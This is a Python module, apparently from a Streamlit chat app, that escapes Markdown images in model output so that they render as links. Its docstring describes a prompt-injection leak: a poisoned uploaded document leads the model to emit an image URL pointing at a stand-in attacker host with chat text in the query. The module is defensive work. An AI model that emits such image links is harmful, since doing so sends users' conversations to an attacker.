"""Rendering model output and user text safely as Markdown.

Streamlit's Markdown already shows raw HTML as text and rewrites ``javascript:`` links, so
nothing in an answer can run. One thing it still does is load a Markdown image as soon as it
is shown: an answer (say, to a poisoned uploaded document) could carry
``![x](https://attacker/?q=<chat text>)`` and leak data without a click. Images are shown as
links instead, which only a click follows.

Every Markdown image (inline, reference, collapsed or shortcut, nested in a link, in any
block) opens with a ``!`` that is not backslash-escaped, immediately followed by ``[``; that
``!`` can come from nowhere else (a character reference such as ``&#33;`` is literal text).
So each such ``!`` gets a backslash: ``\\!`` is CommonMark's escape for a literal ``!``, and
``\\![a](u)`` renders as ``!`` and a link. A ``!`` after an odd run of backslashes is already
escaped. Only backslashes are inserted, so no earlier character changes meaning, and no parser
is needed that could disagree with the browser's: code, math and HTML end on a delimiter, never
on a backslash, so a run of backslashes is always where its ``!`` is. The price: inside code,
where escapes are not processed, such a ``!`` shows a backslash before it.

While streaming, Streamlit completes unterminated Markdown by appending closers (and escaping
some ``~`` and ``>``), which never undoes the escape. KaTeX in Streamlit runs untrusted, so
``\\includegraphics`` renders as an error, not an image.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# A `!` before `[` after an even run of backslashes (none counts): that run escapes itself,
# leaving the `!` live.
_LIVE_IMAGE_OPENER = re.compile(r"(?<!\\)((?:\\\\)*)!(?=\[)")


def defuse_images(text: str) -> str:
    """``text`` with every Markdown image turned into ``!`` and a link."""
    return _LIVE_IMAGE_OPENER.sub(r"\1\\!", text)


def defuse_stream(chunks: Iterable[str]) -> Iterator[str]:
    """``defuse_images`` over streamed text, yielding exactly what it gives for the whole
    however the text is split: what a chunk's end leaves undecided waits for the next."""
    held = ""
    for chunk in chunks:
        text = held + chunk
        held = text[len(text) - _undecided(text) :]
        if out := defuse_images(text[: len(text) - len(held)]):
            yield out
    if held:
        yield held


def _undecided(text: str) -> int:
    """How many characters at the end of ``text`` the next chunk decides: a trailing ``!``
    opens an image only if ``[`` follows, and a backslash run before it (or before a ``!``
    still to come) escapes it when odd; only the run's parity matters, so one backslash of
    an odd run waits, and the pairs before it go out."""
    body = text.removesuffix("!")
    run = len(body) - len(body.rstrip("\\"))
    return len(text) - len(body) + run % 2


# CommonMark lets a backslash escape any ASCII punctuation, which then is a literal character.
_MARKDOWN_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def plain_label(text: str) -> str:
    """``text`` shown as itself where Streamlit reads Markdown (a button's label, say): every
    ASCII punctuation escaped, so no link, image, emphasis or directive forms. For user
    text shown whole as a title, such as a conversation's first question."""
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", text)
